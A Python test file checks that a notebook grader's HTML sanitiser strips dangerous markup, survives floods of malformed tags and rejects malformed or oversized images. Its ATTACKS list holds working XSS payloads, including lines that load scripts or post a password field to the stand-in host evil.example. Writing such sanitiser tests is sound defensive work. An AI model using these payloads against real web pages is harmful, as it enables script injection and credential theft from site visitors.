"""A feedback page shows tables and pictures of a notebook, and runs nothing of it."""

from __future__ import annotations

import base64
import html.parser
import struct
import time
import zlib

import nasty
import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.reports.markup import TAGS
from grader.reports.rich_output import plain_text, safe_html

ATTACKS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<a href="javascript:alert(1)">x</a>
<a href="  java&#10;script:alert(1)">x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=x><embed src=x><applet code=x>
<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</form>
<td onmouseover=alert(1) style="background:url(//evil.example)" colspan=2>x</td>
<td colspan="2 onmouseover=alert(1)">x
<td colspan=99999999 rowspan=-1>x
<div style="position:fixed;inset:0" id=root class=modal hx-get=//evil.example hx-trigger=load>x</div>
<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>
<style>@import url(//evil.example)</style>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><%= 1 %>
<plaintext><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp>
<b <script>alert(1)</script>>x</b>
<b/onclick=alert(1)//x>x</b>
<isindex action=javascript:alert(1) type=image>
<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)><marquee onstart=alert(1)>
</pre></div></body></html><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;script&#62; &#x202e;
<\x00script>alert(1)</script> <script\x0d>alert(1)</script\x0b> ＜script＞
""".splitlines()
FLOODS = {
    "misnested": "".join(f"<i><b a={number}><p>" for number in range(9_000)),
    "deep": "<div>" * 40_000,
    "unclosed": "<b>" * 9_000 + "</i>" * 9_000,
    "scopes": "<b><table><tr><td></b></td></tr></table>" * 4_000,
    "comments": "<!--" * 50_000,
    "scripts": "<script>" * 25_000,
    "brackets": "<" * 200_000,
    "entities": "&" * 200_000,
    "attributes": "<b " + " ".join(f"a{number}" for number in range(25_000)) + ">",
}


class Fragment(html.parser.HTMLParser):
    """What a browser would make of it: tags with attributes, and text. Fails where a tag is not closed in its place."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.opened: list[str] = []
        self.text = ""
        self.feed(fragment)
        self.close()
        assert self.opened == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.opened += [tag] * (tag not in ("br", "hr", "img"))

    def handle_endtag(self, tag: str) -> None:
        assert self.opened.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    handle_comment = handle_pi = unknown_decl = handle_decl


def shown(data: str, kind: str = "html") -> Fragment:
    fragment = Fragment(safe_html({"type": kind, "data": data}))
    for tag, attributes in fragment.tags:
        assert tag in TAGS
        assert not attributes or (tag in ("td", "th") and attributes.keys() <= {"colspan", "rowspan"})
        assert all(value and value.isdigit() and len(value) <= 3 for value in attributes.values())
    assert list(nasty.dangerous(fragment.text)) == []
    return fragment


@pytest.mark.parametrize("attack", [*ATTACKS, *nasty.NASTY.values()])
def test_no_attack_is_left_standing(attack: str) -> None:
    shown(attack)
    shown(f"<table><tr><td>{attack}</td></tr></table>")
    assert shown(attack, "text").tags == [("pre", {})]


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<b>", "</b>", "<table>", "<td ", ">", "<!--", "&#x", "\x1b[1m", "<p/>"]), max_size=6
    )
)
def test_nor_any_mixture_of_attacks(pieces: list[str]) -> None:
    shown("".join(pieces))


@given(st.text(st.sampled_from("<>/!-'\"=& abtd;#x\x00\r\n") | st.characters(), max_size=80))
def test_nor_any_text(text: str) -> None:
    shown(text)


@pytest.mark.parametrize("kind", FLOODS)
def test_broken_markup_costs_neither_time_nor_space(kind: str) -> None:
    began = time.process_time()
    fragment = safe_html({"type": "html", "data": FLOODS[kind]})
    assert len(fragment) < 6 * len(FLOODS[kind]) and time.process_time() - began < 3


def test_a_data_frame_keeps_its_table() -> None:
    frame = (
        "<div>\n<style scoped>\n .dataframe tbody tr th {vertical-align: top;}\n</style>\n"
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th colspan="2">a &lt; b</th></tr>'
        "</thead><tbody><tr><th>0</th><td>가</td><td>1.5</td></tr></tbody></table><p>1 rows × 2 columns</p></div>"
    )
    assert safe_html({"type": "html", "data": frame}) == (
        '<div>\n\n<table><thead><tr><th></th><th colspan="2">a &lt; b</th></tr>'
        "</thead><tbody><tr><th>0</th><td>가</td><td>1.5</td></tr></tbody></table><p>1 rows × 2 columns</p></div>"
    )


def test_printed_text_reads_as_on_a_terminal() -> None:
    assert plain_text("\x1b[1;31mred\x1b[0m \x1b]8;;http://x\x1b\\link\x1b]8;;\x07 \x1b(Bend") == "red link end"
    assert plain_text(" 10%|#  |\r 50%|## |\r100%|###|\r\nloss 0.1\n") == "100%|###|\nloss 0.1\n"
    assert plain_text("a\x1b\n\x07b\x08") == "a\\x1b\n\\x07b\\x08"
    assert len(plain_text("x\n" * 10**6).split("\n")) == 400
    assert safe_html({"type": "text", "data": "<b>&"}) == "<pre>&lt;b&gt;&amp;</pre>"


def png(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    header = struct.pack(">2L5B", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\0\0" * 2))
        + chunk(b"IEND", b"")
        + tail
    )


def jpeg(width: int = 2, height: int = 2) -> bytes:
    comment = b"\xff\xfe" + struct.pack(">H", 8) + b"\xff\xc0abcd"
    return (
        b"\xff\xd8\xff\xe0\0\x04ab"
        + comment
        + b"\xff\xff\xc2\0\x11\x08"
        + struct.pack(">2H", height, width)
        + b"\xff\xd9"
    )


def encoded(content: bytes) -> str:
    return base64.encodebytes(content).decode()


@pytest.mark.parametrize(("kind", "content"), [("png", png()), ("jpeg", jpeg())])
def test_a_picture_is_embedded(kind: str, content: bytes) -> None:
    fragment = safe_html({"type": kind, "data": encoded(content)}, "ko")
    assert fragment == f'<img alt="노트북의 그림" src="data:image/{kind};base64,{base64.b64encode(content).decode()}">'


@pytest.mark.parametrize(
    ("kind", "data", "words"),
    [
        ("png", encoded(jpeg()), "damaged"),
        ("jpeg", encoded(png()), "damaged"),
        ("png", encoded(b"<svg onload=alert(1)>"), "damaged"),
        ("png", encoded(png())[:-2] + '"><script>alert(1)</script>', "damaged"),
        ("png", "%%%%", "damaged"),
        ("png", "가나다라", "damaged"),
        ("png", encoded(png()[:20]), "damaged"),
        ("jpeg", encoded(jpeg()[:25]), "damaged"),
        ("jpeg", encoded(b"\xff\xd8\xff\xe0\0\0" * 1000), "damaged"),
        ("png", encoded(png(60_000, 2)), "too large"),
        ("png", encoded(png(9_000, 9_000)), "too large"),
        ("jpeg", encoded(jpeg(65_535, 65_535)), "too large"),
        ("png", "A" * 10_000_000, "too large"),
        ("html", "x" * 10**6, "too large"),
        ("html", "<b></b>" * 20_000, "too large"),
        ("svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "SVG"),
        ("javascript", "alert(1)", "left out"),
        ("widget", "{}", "left out"),
    ],
)
def test_what_cannot_be_shown_leaves_a_note(kind: str, data: str, words: str) -> None:
    fragment = safe_html({"type": kind, "data": data})
    assert words in fragment and fragment.startswith("<p><em>") and len(fragment) < 200


@pytest.mark.parametrize(
    "output", [{}, {"type": "text"}, {"type": "html", "data": ["x"]}, {"type": ["png"], "data": "x"}]
)
def test_an_output_without_form_leaves_a_note(output: dict[str, object]) -> None:
    assert "left out" in safe_html(output)
